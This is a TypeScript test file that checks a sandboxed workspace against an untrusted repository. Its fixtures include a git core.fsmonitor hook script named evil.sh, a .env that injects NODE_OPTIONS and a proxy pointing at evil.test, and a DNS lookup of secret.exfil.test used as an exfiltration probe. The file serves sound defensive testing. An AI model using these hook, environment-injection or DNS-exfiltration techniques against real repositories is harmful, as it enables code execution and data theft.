import { execFileSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { defaultRules } from '../../../src/authority/default-rules.js'
import { judge } from '../../../src/authority/judge.js'
import { createRuleBook } from '../../../src/authority/rule-book.js'
import { openWorkspace, type Workspace } from '../../../src/workspace/open-workspace.js'
import { temporaryDirectory } from '../../support/temporary-directory.js'
import { workerLedger } from '../../support/worker-ledger.js'
import { describeWithBubblewrap } from './support/needs-bubblewrap.js'

describeWithBubblewrap('an untrusted repository', () => {
  let base: string
  let root: string
  let workspace: Workspace
  beforeEach(async () => {
    base = temporaryDirectory()
    root = join(base, 'work')
    await mkdir(root)
    execFileSync('git', ['init', '-q', root])
    workspace = openWorkspace({
      root,
      sandbox: 'required',
      scratchDir: join(base, 'scratch'),
      ledgerDir: workerLedger,
    })
  })
  afterEach(async () => {
    await workspace.close()
  })

  it('SEC-097 whose git configuration runs a program: the program stays inside', async () => {
    const outside = join(base, 'PWN')
    await writeFile(join(root, 'evil.sh'), `#!/bin/sh\ntouch ${outside} 2>/dev/null\ntouch inside\n`, {
      mode: 0o755,
    })
    execFileSync('git', ['-C', root, 'config', 'core.fsmonitor', join(root, 'evil.sh')])
    const { exitCode } = await workspace.shell.run('git status')
    expect(exitCode).toBe(0)
    // It did run, so what kept it was the sandbox.
    expect(existsSync(join(root, 'inside'))).toBe(true)
    expect(existsSync(outside)).toBe(false)
  })

  it('SEC-142 with a .env: nothing of it reaches this process or a command', async () => {
    await writeFile(
      join(root, '.env'),
      'NODE_OPTIONS=--require=./evil.cjs\nCAPSTAN_HOME=./evil\nHTTPS_PROXY=http://evil.test\n',
    )
    const { output } = await workspace.shell.run('env')
    expect(output).not.toMatch(/evil/)
    expect(process.env['CAPSTAN_HOME']).toBeUndefined()
  })

  it('SEC-169 cannot send data out through names: there is no resolver inside', async () => {
    const { output } = await workspace.shell.run(
      'getent hosts secret.exfil.test || echo nothing; cat /proc/net/route | wc -l',
    )
    expect(output).toMatch(/^nothing\n[01]\n$/)
  })
})

it('SEC-168 a host that no rule names is asked about', () => {
  const scope = { variables: { workspace: ['/ship'] } }
  const book = createRuleBook({
    rules: [
      ...defaultRules,
      { permission: 'web_fetch', pattern: 'docs.example.com', action: 'allow', source: 'session' },
    ],
    scope,
  })
  const verdict = (host: string): string =>
    judge({ tool: 'web_fetch', subjects: [{ net: host }] }, book).verdict.action
  expect(verdict('docs.example.com')).toBe('allow')
  expect(verdict('evil.example.com')).toBe('ask')
})
